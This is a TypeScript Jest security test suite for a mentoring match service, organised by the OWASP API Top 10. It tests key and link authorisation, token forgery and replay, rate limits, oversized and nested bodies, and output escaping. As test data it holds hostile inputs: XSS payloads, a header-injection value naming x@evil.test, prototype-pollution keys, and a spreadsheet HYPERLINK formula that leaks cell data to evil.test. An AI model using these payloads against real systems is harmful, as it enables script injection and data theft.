// Security tests of the matching service against the real servers (docs/security.md maps them to
// the OWASP API Security Top 10): keys kept to their programme and scope, a person's answer link
// kept to its match, person and action, forged and replayed links, rate limits, hostile bodies,
// and hostile names on the answer page and in the CSV export.
import { createTokenService, generateApiKey, type KitApp, publishApiKey, type Scope } from '@belong/kit';
import { createTestNamespace, EventSender } from '@belong/testing';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  attributes,
  auth,
  buildTestApp,
  eventually,
  id,
  inPool,
  mentorAttributes,
  programmeEvent,
  SIGNING_SECRET,
  verified,
} from './helpers.ts';

const ns = createTestNamespace('matching security');
const adminKey = `admin-${'x'.repeat(40)}`;
const sender = new EventSender();
const tokens = createTokenService({ signingSecret: SIGNING_SECRET });
const PROBLEM = /^application\/problem\+json/;
let app: KitApp;

const programmeA = id('prg');
const programmeB = id('prg');
const cohort = id('prg');
const hostileProgramme = id('prg');
const mentor = id('pfl');
const [menteeOne, menteeTwo, menteeThree, menteeFour] = [id('pfl'), id('pfl'), id('pfl'), id('pfl')];
let matchOne: string;
let matchTwo: string;
let matchThree: string;
let matchFour: string;
let roundId: string;
let keyB: string;

type KeyRecord = Parameters<typeof publishApiKey>[1];
async function createKey(scopes: Scope[], programmeId: string | null): Promise<string> {
  const generated = generateApiKey();
  await publishApiKey(
    app.redis,
    {
      _id: generated.keyId,
      name: 'security test key',
      secretHash: generated.secretHash,
      scopes,
      programmeId,
      createdAt: new Date(),
      createdBy: 'test',
    } as KeyRecord,
    { keyPrefix: ns.redisPrefix },
  );
  return generated.key;
}

const respondToken = (matchId: string, profileId: string) =>
  tokens.issue({ profileId, action: 'respond-match', resourceId: matchId, ttlSeconds: 600 });
const manageToken = (profileId: string) =>
  tokens.issue({ profileId, action: 'manage-profile', ttlSeconds: 600 });

async function matchOf(programmeId: string, menteeId: string): Promise<string> {
  return eventually(async () => {
    const response = await app.inject({
      method: 'GET',
      url: `/programmes/${programmeId}/matches?menteeId=${menteeId}`,
      headers: auth(adminKey),
    });
    return (response.json() as { items: { id: string }[] }).items[0]?.id;
  }, `a match for ${menteeId}`);
}

const matchState = async (matchId: string) =>
  (await app.inject({ method: 'GET', url: `/matches/${matchId}`, headers: auth(adminKey) })).json() as {
    status: string;
    menteeAcceptedAt: string | null;
    mentorAcceptedAt: string | null;
    closeReason: string | null;
  };

const form = (fields: Record<string, string>) => ({
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  payload: new URLSearchParams(fields).toString(),
});

/** A valid token, and the same changed in every way a forger might try. */
function forgeries(good: string, claims: { profileId: string; action: string; resourceId: string }) {
  const [header = '', payload = '', signature = ''] = good.split('.');
  const flip = (text: string, at: number) =>
    `${text.slice(0, at)}${text[at] === 'A' ? 'B' : 'A'}${text.slice(at + 1)}`;
  const b64 = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const past = Date.now() - 2 * 3600_000;
  return [
    [
      'one character of the payload changed',
      `${header}.${flip(payload, 12)}.${signature}`,
      'AUTH_INVALID_TOKEN',
    ],
    [
      'one character of the signature changed',
      `${header}.${payload}.${flip(signature, 5)}`,
      'AUTH_INVALID_TOKEN',
    ],
    [
      'signed with another secret',
      createTokenService({ signingSecret: 'another-secret-'.repeat(4) }).issue({
        ...claims,
        ttlSeconds: 600,
      }),
      'AUTH_INVALID_TOKEN',
    ],
    [
      'expired',
      createTokenService({ signingSecret: SIGNING_SECRET, now: () => past }).issue({
        ...claims,
        ttlSeconds: 3600,
      }),
      'AUTH_TOKEN_EXPIRED',
    ],
    ['alg none', `${b64({ alg: 'none', typ: 'JWT' })}.${payload}.`, 'AUTH_INVALID_TOKEN'],
    ['truncated', good.slice(0, -10), 'AUTH_INVALID_TOKEN'],
  ] as const;
}

const deeplyNested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const deeplyNestedObject = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

beforeAll(async () => {
  app = buildTestApp(ns, adminKey);
  await app.ready();
  await sender.start(ns);
  await sender.send(programmeEvent(programmeA), programmeEvent(cohort, { matchingMode: 'cohort_round' }));
  await sender.send(
    verified(mentor, programmeA, 'mentor', mentorAttributes({ capacity: 4 })),
    verified(id('pfl'), cohort, 'mentor', mentorAttributes()),
    verified(id('pfl'), cohort, 'mentee', attributes()),
  );
  await inPool(app, mentor);
  for (const mentee of [menteeOne, menteeTwo, menteeThree, menteeFour]) {
    await sender.send(verified(mentee, programmeA, 'mentee', attributes()));
  }
  [matchOne, matchTwo, matchThree, matchFour] = (await Promise.all(
    [menteeOne, menteeTwo, menteeThree, menteeFour].map((mentee) => matchOf(programmeA, mentee)),
  )) as [string, string, string, string];
  await eventually(
    async () => (await app.mongo.collection('people').countDocuments({ programmeId: cohort })) === 2,
    'the cohort pool',
  );
  const round = await app.inject({
    method: 'POST',
    url: `/programmes/${cohort}/rounds`,
    headers: auth(adminKey),
    payload: {},
  });
  expect(round.statusCode).toBe(201);
  roundId = round.json().id;
  keyB = await createKey(['matches:read', 'matches:write'], programmeB);
}, 120_000);

afterAll(async () => {
  await sender.stop();
  await app?.close();
  await ns.cleanup();
}, 60_000);

describe('object-level authorisation (API1)', () => {
  it('keeps a programme key out of another programme’s matches: 404 on a match, 403 on its lists, nothing changed', async () => {
    const onMatch = [
      { method: 'GET', url: `/matches/${matchOne}` },
      { method: 'POST', url: `/matches/${matchOne}/accept`, payload: { as: 'mentee' } },
      { method: 'POST', url: `/matches/${matchOne}/decline`, payload: { as: 'mentor' } },
      { method: 'POST', url: `/matches/${matchOne}/end`, payload: { reason: 'hijacked' } },
    ] as const;
    for (const operation of onMatch) {
      const response = await app.inject({ ...operation, headers: auth(keyB) });
      expect([operation.url, response.statusCode, response.json().code]).toEqual([
        operation.url,
        404,
        'MATCH_NOT_FOUND',
      ]);
      expect(response.headers['content-type']).toMatch(PROBLEM);
    }
    const onProgramme = [
      { method: 'GET', url: `/programmes/${programmeA}/matches` },
      { method: 'GET', url: `/programmes/${programmeA}/matches.csv` },
      { method: 'GET', url: `/programmes/${programmeA}/audit` },
      {
        method: 'POST',
        url: `/programmes/${programmeA}/matches`,
        payload: { menteeId: menteeOne, mentorId: mentor, reason: 'x' },
      },
      { method: 'POST', url: `/programmes/${programmeA}/rounds`, payload: {} },
      { method: 'GET', url: `/programmes/${programmeA}/mentees/${menteeOne}/suggestions` },
      {
        method: 'POST',
        url: `/programmes/${programmeA}/mentees/${menteeOne}/choose`,
        payload: { mentorId: mentor },
      },
    ] as const;
    for (const operation of onProgramme) {
      const response = await app.inject({ ...operation, headers: auth(keyB) });
      expect([operation.url, response.statusCode, response.json().code]).toEqual([
        operation.url,
        403,
        'AUTH_FORBIDDEN_PROGRAMME',
      ]);
    }
    expect(await matchState(matchOne)).toMatchObject({
      status: 'proposed',
      menteeAcceptedAt: null,
      mentorAcceptedAt: null,
    });
  });

  it('keeps a programme key out of another programme’s rounds: 404, and the round is not published', async () => {
    for (const operation of [
      { method: 'GET', url: `/rounds/${roundId}` },
      { method: 'POST', url: `/rounds/${roundId}/publish` },
    ] as const) {
      const response = await app.inject({ ...operation, headers: auth(keyB) });
      expect([operation.url, response.statusCode, response.json().code]).toEqual([
        operation.url,
        404,
        'MATCH_ROUND_NOT_FOUND',
      ]);
    }
    const round = await app.inject({ method: 'GET', url: `/rounds/${roundId}`, headers: auth(adminKey) });
    expect(round.json().status).toBe('preview');
  });

  it('keeps a person’s links to their own match and their own suggestions', async () => {
    // menteeOne's answer link, on menteeTwo's match: API and page.
    const own = respondToken(matchOne, menteeOne);
    for (const [method, url] of [
      ['GET', `/matches/${matchTwo}?token=${own}`],
      ['POST', `/matches/${matchTwo}/decline?token=${own}`],
    ] as const) {
      const response = await app.inject({ method, url });
      expect([method, response.statusCode, response.json().code]).toEqual([
        method,
        403,
        'AUTH_TOKEN_WRONG_ACTION',
      ]);
    }
    const page = await app.inject({ method: 'GET', url: `/matches/${matchTwo}/respond?token=${own}` });
    expect(page.statusCode).toBe(403);
    const post = await app.inject({
      method: 'POST',
      url: `/matches/${matchTwo}/respond`,
      ...form({ token: own, answer: 'decline' }),
    });
    expect(post.statusCode).toBe(403);
    // menteeTwo's own link, on menteeOne's suggestions and choice.
    const other = manageToken(menteeTwo);
    const suggestions = await app.inject({
      method: 'GET',
      url: `/programmes/${programmeA}/mentees/${menteeOne}/suggestions?token=${other}`,
    });
    expect(suggestions.statusCode).toBe(403);
    expect(suggestions.json().code).toBe('AUTH_TOKEN_WRONG_ACTION');
    const choose = await app.inject({
      method: 'POST',
      url: `/programmes/${programmeA}/mentees/${menteeOne}/choose?token=${other}`,
      payload: { mentorId: mentor },
    });
    expect(choose.statusCode).toBe(403);
    expect(await matchState(matchTwo)).toMatchObject({ status: 'proposed', menteeAcceptedAt: null });
    const forOne = await app.inject({
      method: 'GET',
      url: `/programmes/${programmeA}/matches?menteeId=${menteeOne}`,
      headers: auth(adminKey),
    });
    expect(forOne.json().items).toHaveLength(1);
  });
});

describe('object property level authorisation (API3)', () => {
  it('does not show a person the reason the other side gave the coordinator for declining', async () => {
    const reason = 'Private to the coordinator: I would rather not work with this person.';
    const declined = await app.inject({
      method: 'POST',
      url: `/matches/${matchFour}/decline?token=${respondToken(matchFour, mentor)}`,
      payload: { reason },
    });
    expect(declined.statusCode).toBe(200);
    expect(declined.json()).toMatchObject({ status: 'declined', closedBy: 'mentor', closeReason: reason });
    const seenByMentee = await app.inject({
      method: 'GET',
      url: `/matches/${matchFour}?token=${respondToken(matchFour, menteeFour)}`,
    });
    expect(seenByMentee.statusCode).toBe(200);
    expect(seenByMentee.json()).toMatchObject({ status: 'declined', closedBy: 'mentor', closeReason: null });
    expect(seenByMentee.body).not.toContain('rather not');
    // Declining it again (nothing changes) answers the match the same way.
    const again = await app.inject({
      method: 'POST',
      url: `/matches/${matchFour}/decline?token=${respondToken(matchFour, menteeFour)}`,
    });
    expect(again.statusCode).toBe(200);
    expect(again.json()).toMatchObject({ status: 'declined', closedBy: 'mentor', closeReason: null });
    // The one who wrote it, and the coordinator, still see it.
    const seenByMentor = await app.inject({
      method: 'GET',
      url: `/matches/${matchFour}?token=${respondToken(matchFour, mentor)}`,
    });
    expect(seenByMentor.json().closeReason).toBe(reason);
    expect((await matchState(matchFour)).closeReason).toBe(reason);
  });
});

describe('function-level authorisation: scopes and link actions (API5)', () => {
  it('refuses each privileged operation to a key without its scope, with 403 naming the scope', async () => {
    const reader = await createKey(['matches:read'], programmeA);
    const readerCohort = await createKey(['matches:read'], cohort);
    const others = await createKey(
      [
        'profiles:read',
        'profiles:write',
        'programmes:read',
        'programmes:write',
        'notifications:read',
        'notifications:write',
      ],
      programmeA,
    );
    const cases = [
      [reader, 'matches:write', 'POST', `/matches/${matchOne}/accept`, { as: 'mentee' }],
      [reader, 'matches:write', 'POST', `/matches/${matchOne}/decline`, { as: 'mentee' }],
      [reader, 'matches:write', 'POST', `/matches/${matchOne}/end`, { reason: 'x' }],
      [
        reader,
        'matches:write',
        'POST',
        `/programmes/${programmeA}/matches`,
        { menteeId: menteeOne, mentorId: mentor, reason: 'x' },
      ],
      [
        reader,
        'matches:write',
        'POST',
        `/programmes/${programmeA}/mentees/${menteeOne}/choose`,
        { mentorId: mentor },
      ],
      [readerCohort, 'matches:write', 'POST', `/programmes/${cohort}/rounds`, {}],
      [readerCohort, 'matches:write', 'POST', `/rounds/${roundId}/publish`, undefined],
      [others, 'matches:read', 'GET', `/programmes/${programmeA}/matches`, undefined],
      [others, 'matches:read', 'GET', `/programmes/${programmeA}/matches.csv`, undefined],
      [others, 'matches:read', 'GET', `/programmes/${programmeA}/audit`, undefined],
      [others, 'matches:read', 'GET', `/matches/${matchOne}`, undefined],
      [others, 'matches:read', 'GET', `/rounds/${roundId}`, undefined],
      [
        others,
        'matches:read',
        'GET',
        `/programmes/${programmeA}/mentees/${menteeOne}/suggestions`,
        undefined,
      ],
    ] as const;
    for (const [key, scope, method, url, payload] of cases) {
      const response = await app.inject({ method, url, headers: auth(key), ...(payload ? { payload } : {}) });
      expect([method, url, response.statusCode]).toEqual([method, url, 403]);
      expect(response.headers['content-type']).toMatch(PROBLEM);
      expect(response.json().code).toBe('AUTH_FORBIDDEN_SCOPE');
      expect(response.headers['www-authenticate']).toContain(`scope="${scope}"`);
    }
    expect(await matchState(matchOne)).toMatchObject({ status: 'proposed', menteeAcceptedAt: null });
    const round = await app.inject({ method: 'GET', url: `/rounds/${roundId}`, headers: auth(adminKey) });
    expect(round.json().status).toBe('preview');
  });

  it('takes a person’s link only for its own action, and never as an API key', async () => {
    const wrong = {
      'manage-profile': manageToken(menteeOne),
      unsubscribe: tokens.issue({
        profileId: menteeOne,
        action: 'unsubscribe',
        resourceId: programmeA,
        ttlSeconds: 600,
      }),
      'verify-email': tokens.issue({ profileId: menteeOne, action: 'verify-email', ttlSeconds: 600 }),
    };
    for (const [action, token] of Object.entries(wrong)) {
      for (const [method, url] of [
        ['GET', `/matches/${matchOne}?token=${token}`],
        ['POST', `/matches/${matchOne}/accept?token=${token}`],
      ] as const) {
        const response = await app.inject({ method, url });
        expect([action, method, response.statusCode, response.json().code]).toEqual([
          action,
          method,
          403,
          'AUTH_TOKEN_WRONG_ACTION',
        ]);
      }
      const page = await app.inject({ method: 'GET', url: `/matches/${matchOne}/respond?token=${token}` });
      expect([action, page.statusCode]).toEqual([action, 403]);
    }
    // The answer link does not open the suggestions (a manage-profile action).
    const answer = respondToken(matchOne, menteeOne);
    const suggestions = await app.inject({
      method: 'GET',
      url: `/programmes/${programmeA}/mentees/${menteeOne}/suggestions?token=${answer}`,
    });
    expect(suggestions.statusCode).toBe(403);
    // A link token is not an API key.
    for (const url of [
      `/programmes/${programmeA}/matches`,
      `/rounds/${roundId}`,
      `/programmes/${programmeA}/audit`,
    ]) {
      const response = await app.inject({ method: 'GET', url, headers: auth(answer) });
      expect([url, response.statusCode, response.json().code]).toEqual([url, 401, 'AUTH_INVALID_KEY']);
    }
    expect(await matchState(matchOne)).toMatchObject({ status: 'proposed', menteeAcceptedAt: null });
  });
});

describe('signed links: tampered, expired, forged, replayed (API2)', () => {
  it('refuses every forgery of an answer link, on the API and the page, and changes nothing', async () => {
    const claims = { profileId: menteeOne, action: 'respond-match', resourceId: matchOne };
    for (const [label, token, code] of forgeries(respondToken(matchOne, menteeOne), claims)) {
      const api = await app.inject({
        method: 'POST',
        url: `/matches/${matchOne}/accept?token=${encodeURIComponent(token)}`,
      });
      expect([label, api.statusCode, api.json().code]).toEqual([label, 401, code]);
      expect(api.headers['content-type']).toMatch(PROBLEM);
      const expected = code === 'AUTH_TOKEN_EXPIRED' ? 410 : 400;
      const page = await app.inject({
        method: 'GET',
        url: `/matches/${matchOne}/respond?token=${encodeURIComponent(token)}`,
      });
      expect([label, page.statusCode]).toEqual([label, expected]);
      const post = await app.inject({
        method: 'POST',
        url: `/matches/${matchOne}/respond`,
        ...form({ token, answer: 'accept' }),
      });
      expect([label, post.statusCode]).toEqual([label, expected]);
    }
    expect(await matchState(matchOne)).toMatchObject({
      status: 'proposed',
      menteeAcceptedAt: null,
      mentorAcceptedAt: null,
    });
  });

  it('does not reopen a declined match when an answer link is used again', async () => {
    const declined = await app.inject({
      method: 'POST',
      url: `/matches/${matchTwo}/respond`,
      ...form({ token: respondToken(matchTwo, mentor), answer: 'decline', reason: 'No time' }),
    });
    expect(declined.statusCode).toBe(200);
    for (const token of [respondToken(matchTwo, menteeTwo), respondToken(matchTwo, mentor)]) {
      const api = await app.inject({ method: 'POST', url: `/matches/${matchTwo}/accept?token=${token}` });
      expect(api.statusCode).toBe(409);
      expect(api.json().code).toBe('MATCH_NOT_OPEN');
      const page = await app.inject({
        method: 'POST',
        url: `/matches/${matchTwo}/respond`,
        ...form({ token, answer: 'accept' }),
      });
      expect(page.statusCode).toBe(409);
      expect(page.body).toContain('This match has already been answered');
    }
    expect(await matchState(matchTwo)).toMatchObject({
      status: 'declined',
      menteeAcceptedAt: null,
      mentorAcceptedAt: null,
    });
  });
});

describe('rate limits (API4)', () => {
  const limited = createTestNamespace('matching security rate');
  let small: KitApp;

  beforeAll(async () => {
    small = buildTestApp(limited, adminKey, { RATE_LIMIT_PER_MINUTE: '3' });
    await small.ready();
  }, 60_000);

  afterAll(async () => {
    await small?.close();
    await limited.cleanup();
  }, 60_000);

  it('answers 429 problem+json with Retry-After to an address opening answer pages too often', async () => {
    const open = () => small.inject({ method: 'GET', url: '/matches/mtc_unknown/respond?token=not-a-token' });
    const statuses = [];
    for (let i = 0; i < 3; i++) statuses.push((await open()).statusCode);
    expect(statuses).toEqual([400, 400, 400]);
    const over = await open();
    expect(over.statusCode).toBe(429);
    expect(over.headers['content-type']).toMatch(PROBLEM);
    expect(over.json()).toMatchObject({ status: 429, code: 'MATCH_RATE_LIMITED' });
    expect(Number(over.headers['retry-after'])).toBeGreaterThan(0);
    expect((await small.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
  });
});

describe('hostile bodies (API4, API8)', () => {
  it('answers an oversized body with 413 problem+json, JSON or form', async () => {
    const json = await app.inject({
      method: 'POST',
      url: `/matches/${matchOne}/end`,
      headers: { ...auth(adminKey), 'content-type': 'application/json' },
      payload: JSON.stringify({ reason: 'x'.repeat(300_000) }),
    });
    expect(json.statusCode).toBe(413);
    expect(json.headers['content-type']).toMatch(PROBLEM);
    expect(json.json().code).toBe('MATCH_BODY_TOO_LARGE');
    const page = await app.inject({
      method: 'POST',
      url: `/matches/${matchOne}/respond`,
      ...form({ token: respondToken(matchOne, menteeOne), answer: 'decline', reason: 'x'.repeat(20_000) }),
    });
    expect(page.statusCode).toBe(413);
    expect(await matchState(matchOne)).toMatchObject({ status: 'proposed' });
  });

  it('answers 10,000 levels of nesting with a 400, and keeps answering', async () => {
    const attempts = [
      { url: `/matches/${matchOne}/decline`, payload: deeplyNested(10_000) },
      {
        url: `/matches/${matchOne}/decline`,
        payload: `{"as":"mentee","reason":${deeplyNestedObject(10_000)}}`,
      },
      { url: `/matches/${matchOne}/end`, payload: `{"reason":${deeplyNested(10_000)}}` },
      { url: `/programmes/${programmeA}/matches`, payload: deeplyNestedObject(10_000) },
      { url: `/programmes/${cohort}/rounds`, payload: `{"stable":${deeplyNested(10_000)}}` },
    ];
    for (const attempt of attempts) {
      const response = await app.inject({
        method: 'POST',
        ...attempt,
        headers: { ...auth(adminKey), 'content-type': 'application/json' },
      });
      expect([attempt.url, response.statusCode]).toEqual([attempt.url, 400]);
      expect(response.headers['content-type']).toMatch(PROBLEM);
    }
    expect((await app.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
    expect(await matchState(matchOne)).toMatchObject({ status: 'proposed' });
  });

  it('refuses __proto__ and constructor.prototype keys, and the prototype stays clean', async () => {
    for (const payload of [
      '{"as":"mentee","__proto__":{"status":"active"}}',
      '{"as":"mentee","constructor":{"prototype":{"status":"active"}}}',
    ]) {
      const response = await app.inject({
        method: 'POST',
        url: `/matches/${matchOne}/decline`,
        headers: { ...auth(adminKey), 'content-type': 'application/json' },
        payload,
      });
      expect(response.statusCode).toBe(400);
      expect(response.json().code).toBe('MATCH_INVALID_BODY');
    }
    expect(({} as { status?: string }).status).toBeUndefined();
    expect(await matchState(matchOne)).toMatchObject({ status: 'proposed' });
  });
});

describe('hostile names and free text on the answer page and in the export (API8)', () => {
  const name = `Sam "><img src=x onerror=alert(1)> {{7*7}} \u202Egnp.exe\u200B\r\nBcc: x@evil.test`;

  it('escapes the other person’s name, the programme and the coordinator on the answer page', async () => {
    await sender.send(
      programmeEvent(hostileProgramme, {
        name: 'Evil <script>alert(1)</script> programme',
        coordinator: { name: '<img src=x onerror=alert(2)> Coordinator', email: 'coordinator@example.org' },
      }),
    );
    const hostileMentor = id('pfl');
    const mentee = id('pfl');
    await sender.send(verified(hostileMentor, hostileProgramme, 'mentor', mentorAttributes(), name));
    await inPool(app, hostileMentor);
    await sender.send(verified(mentee, hostileProgramme, 'mentee', attributes()));
    const matchId = await matchOf(hostileProgramme, mentee);
    const page = await app.inject({
      method: 'GET',
      url: `/matches/${matchId}/respond?token=${respondToken(matchId, mentee)}`,
    });
    expect(page.statusCode).toBe(200);
    expect(page.body).not.toMatch(/<script/i);
    expect(page.body).not.toMatch(/<img/i);
    expect(page.body).toContain('Sam &quot;&gt;&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt; {{7*7}}');
    expect(page.body).toContain('Evil &lt;script&gt;alert(1)&lt;/script&gt; programme');
    expect(page.headers['content-security-policy']).toContain("script-src 'self'");
    expect(page.headers['cache-control']).toBe('no-store');
  });

  it('defuses spreadsheet formulas a coordinator’s reason could carry in the CSV export', async () => {
    const reason = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
    const ended = await app.inject({
      method: 'POST',
      url: `/matches/${matchThree}/end`,
      headers: auth(adminKey),
      payload: { reason },
    });
    expect(ended.statusCode).toBe(200);
    const csv = await app.inject({
      method: 'GET',
      url: `/programmes/${programmeA}/matches.csv`,
      headers: auth(adminKey),
    });
    const row = csv.body.split('\r\n').find((line) => line.startsWith(`${matchThree},`)) ?? '';
    expect(row).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")"`);
    expect(row).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
  });
});
